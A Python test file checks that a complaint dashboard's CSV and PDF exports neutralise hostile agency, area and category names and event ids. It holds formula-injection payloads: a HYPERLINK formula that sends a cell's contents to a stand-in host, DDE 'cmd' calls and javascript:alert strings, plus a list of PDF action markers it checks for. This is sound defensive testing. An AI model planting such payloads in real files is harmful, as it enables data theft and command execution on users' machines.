"""Exports with hostile names and ids: no CSV cell a spreadsheet would run, no active PDF content.

Admins type agency and category names, the reference data names kecamatan and kelurahan, and the
channels send event ids: any of them may start with `=`, `+`, `-`, `@`, a tab or a CR. Through the
real download routes, on both databases.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from pypdf import PdfReader
from sqlalchemy import select, update

from app import create_dash
from dashboard.auth import now_utc
from data_access.db import make_engine, make_session_factory
from data_access.models import Agency, Category, Complaint, Kecamatan, Kelurahan
from devtools.report_history import history, insert_history, reference_for_history
from domain.report_period import wib_today
from domain.spreadsheet_safety import FORMULA_STARTS
from tests.integration.helpers import create_role_users, login_client, worker_settings

PASSWORD = "kata-sandi-uji-panjang"
HOSTILE = (
    '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HOSTILE_CATEGORY = "@kategori"


@pytest.fixture
def hostile_app(redis_server, migrated_url, stream_prefix):
    engine = make_engine(migrated_url)
    Session = make_session_factory(engine)
    now = now_utc()
    with Session.begin() as s:
        create_role_users(s, password=PASSWORD, now=now)
    with Session() as s:
        cats, areas = reference_for_history(s)
    pairs = list(history(count=120, start=now - timedelta(days=10), end=now, now=now, categories=cats, areas=areas, seed=5))
    insert_history(engine, [c for c, _ in pairs], [ch for _, chs in pairs for ch in chs])
    with Session.begin() as s:
        for model, key in ((Agency, Agency.code), (Kecamatan, Kecamatan.code), (Kelurahan, Kelurahan.code)):
            for i, code in enumerate(s.scalars(select(key).order_by(key))):
                s.execute(update(model).where(key == code).values(name=f"{HOSTILE[i % len(HOSTILE)]} {code}"))
        template = s.scalars(select(Category).order_by(Category.code)).first()
        s.add(
            Category(
                code=HOSTILE_CATEGORY,
                group=template.group,
                name_id='=HYPERLINK("javascript:alert(1)","kategori")',
                name_en="+javascript:alert(1)",
                default_agency_code=template.default_agency_code,
                first_response_minutes=10,
                resolution_working_days=5,
                forward_minutes=60,
                followup_working_days=5,
                active=True,
            )
        )
        s.flush()
        ids = s.scalars(select(Complaint.id).order_by(Complaint.id)).all()
        for n, cid in enumerate(ids):
            values = {"event_id": f"{HOSTILE[n % len(HOSTILE)]}#{cid}"}
            if n % 4 == 0:
                values["category_code"] = HOSTILE_CATEGORY
            s.execute(update(Complaint).where(Complaint.id == cid).values(**values))
    engine.dispose()
    app = create_dash(worker_settings(redis_server.url, migrated_url, stream_prefix))
    client = app.server.test_client()
    assert login_client(client, "u-mayor", PASSWORD).status_code == 302
    return client


def _period() -> str:
    today = wib_today(datetime.now(UTC))
    return f"from={(today - timedelta(days=29)).isoformat()}&to={today.isoformat()}"


def _cells(client, path: str) -> list[list[str]]:
    r = client.get(f"/laporan/export/{path}?{_period()}")
    assert r.status_code == 200 and r.mimetype == "text/csv", r.get_data(as_text=True)
    return list(csv.reader(io.StringIO(r.get_data(as_text=True), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert live == [], live[:5]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_agency_csv_neutralises_hostile_agency_names_and_keeps_numbers(hostile_app):
    rows = _cells(hostile_app, "agencies.csv")
    _assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    names = [r[header.index("agency_name")] for r in body]
    assert any(n.startswith("'=HYPERLINK(") for n in names) and any(n.startswith("'\t=1+1") for n in names)
    assert any(n.startswith("'-2+3") for n in names) and any(n.startswith("'@SUM") for n in names)
    # figures stay numbers a spreadsheet can add up: a negative trend is -3.5, not '-3.5
    for column in ("score_pct", "trend_pp", "received"):
        for cell in (r[header.index(column)] for r in body):
            assert cell == "" or _is_number(cell), (column, cell)
    assert sum(int(r[header.index("received")]) for r in body) == 120


def test_item_csv_neutralises_event_ids_categories_and_areas(hostile_app):
    rows = _cells(hostile_app, "items.csv")
    _assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    assert len(body) == 120
    col = {name: header.index(name) for name in ("event_id", "category", "kecamatan", "kelurahan", "first_response_s")}
    assert all(r[col["event_id"]].startswith("'") for r in body)
    assert {r[col["event_id"]][1:].split("#")[0] for r in body} == set(HOSTILE)  # the id itself, behind the apostrophe
    assert any(r[col["category"]] == "'" + HOSTILE_CATEGORY for r in body)
    assert all(r[col["kelurahan"]].startswith("'") for r in body if r[col["kelurahan"]])
    assert any(r[col["kecamatan"]].startswith("'=HYPERLINK(") for r in body)
    assert all(r[col["first_response_s"]] == "" or _is_number(r[col["first_response_s"]]) for r in body)


def test_pdf_with_hostile_names_stays_inert(hostile_app):
    r = hostile_app.get(f"/laporan/export/laporan.pdf?{_period()}")
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    for marker in (b"/JavaScript", b"/JS", b"/AA", b"/URI", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"/S /"):
        assert marker not in r.data, marker
    reader = PdfReader(io.BytesIO(r.data))
    root = reader.trailer["/Root"]
    assert "/AA" not in root and "/Names" not in root
    # fpdf2 writes the initial view as /OpenAction [page /Fit…]: a destination, never an action dictionary
    open_action = root.get("/OpenAction")
    assert open_action is None or isinstance(open_action.get_object(), list), open_action
    assert all("/Annots" not in page for page in reader.pages)
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "HYPERLINK" in text  # the hostile name is there, as plain text
